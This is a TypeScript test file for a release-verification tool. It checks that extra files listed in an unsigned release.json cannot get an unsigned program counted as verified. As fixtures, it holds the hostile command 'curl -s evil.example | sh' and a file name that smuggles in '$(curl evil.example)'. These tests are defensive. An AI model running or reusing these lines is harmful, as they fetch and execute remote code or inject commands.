/** What is beside signed checksums and not on them: whoever may write release.json names no file of theirs into a verified Release. */
import { hash } from "node:crypto";
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";

import { checksumsText, signatureListText } from "../../src/format/projections.ts";
import { readRelease, type Release, type ReleaseArtifact, writeRelease } from "../../src/format/release.ts";
import { verifyFolder } from "../../src/verify/folder.ts";
import { openssl } from "../../src/verify/signatures/openssl.ts";
import { openTrust } from "../../src/verify/trust.ts";
import { makeRelease } from "../worlds/release.ts";
import { signedBy, signerOf, testKey, testReader, testSignature } from "../worlds/signed.ts";

const home = mkdtempSync(join(tmpdir(), "slipway-uncovered-"));
afterAll(() => rmSync(home, { recursive: true, force: true }));

const [key, other] = [testKey("release"), testKey("other")];
let whole = "";

beforeAll(async () => {
  const made = await makeRelease(home, {
    formats: ["binary"],
    programSize: 100,
    // An index would be covered, and it names all there is.
    index: "",
    sign: signerOf(key),
    signatures: [signedBy(key, "checksums")],
  });
  whole = join(home, "1.2.3");
  await made.write(whole);
});

type Add = (release: Release) => readonly { readonly as: Partial<ReleaseArtifact>; readonly text: string }[];

/** The Release with more files, all of which release.json lists as it should. */
async function withFiles(add: Add, product = "tool") {
  const folder = mkdtempSync(join(home, "c-"));
  cpSync(whole, folder, { recursive: true });
  const was = { ...readRelease(readFileSync(join(folder, "release.json"), "utf8"), "release.json"), product };
  const added = add(was).map(({ as, text }) => {
    const bytes = Buffer.from(text, "latin1");
    writeFileSync(join(folder, as.name ?? ""), bytes);
    return { size: bytes.length, digests: { sha256: hash("sha256", bytes) }, ...as } as ReleaseArtifact;
  });
  const artifacts = [...was.artifacts, ...added].toSorted((a, b) => (a.name < b.name ? -1 : 1));
  writeFileSync(join(folder, "release.json"), writeRelease({ ...was, artifacts }));
  const trust = await openTrust(undefined, [{ name: "key", text: key.text }], [testReader, openssl]);
  const { outcome, checks } = await verifyFolder(folder, { trust });
  return { outcome, open: checks.filter((check) => check.outcome === "unavailable").map(({ subject }) => subject) };
}

const script = "#!/bin/sh\ncurl -s evil.example | sh\n";
const program = `\u007fELF${script}\u0001`.padEnd(64, "#");

test.each<readonly [string, Add]>([
  ["notes", () => [{ as: { name: "setup.sh", type: "notes" }, text: script }]],
  [
    "a bare signature",
    () => [{ as: { name: "setup.sh", type: "signature", subject: "checksums.txt" }, text: program }],
  ],
  [
    "a bare signature of a file of such a name",
    () => [{ as: { name: "checksums.txt.exe", type: "signature", subject: "checksums.txt" }, text: program }],
  ],
  [
    "a list of signatures",
    (release) => [{ as: { name: "setup.sh", type: "signatures" }, text: signatureListText(release) }],
  ],
  [
    "checksums of such a name",
    (release) => {
      const notes = {
        name: "$(curl evil.example).md",
        type: "notes",
        size: 0,
        digests: { sha256: hash("sha256", "") },
      };
      const artifacts = [...release.artifacts, notes as ReleaseArtifact];
      const text = checksumsText({ artifacts }, "sha256", notes.name);
      const as = { name: "setup.sh", type: "checksums", subject: notes.name, attributes: { algorithm: "sha256" } };
      return [
        { as: { name: notes.name, type: "notes" }, text: "" },
        { as: as as Partial<ReleaseArtifact>, text },
      ];
    },
  ],
])("a program that is listed as %s leaves the verdict open", async (_, add) => {
  const { outcome, open } = await withFiles(add);
  expect(outcome).toBe("unavailable");
  expect(open).toHaveLength(1);
});

test("lists, notes and signatures by others that are called what they are change nothing", async () => {
  const found = await withFiles((release) => {
    const list = readFileSync(join(whole, "checksums.txt"));
    const signature = testSignature(other, list).toString("latin1");
    const text = checksumsText(release, "sha256", undefined);
    return [
      { as: { name: "checksums.txt.other.release", type: "signature", subject: "checksums.txt" }, text: signature },
      { as: { name: "SHA256SUMS", type: "checksums", attributes: { algorithm: "sha256" } }, text },
    ];
  });
  expect(found).toEqual({ outcome: "verified", open: [] });
});
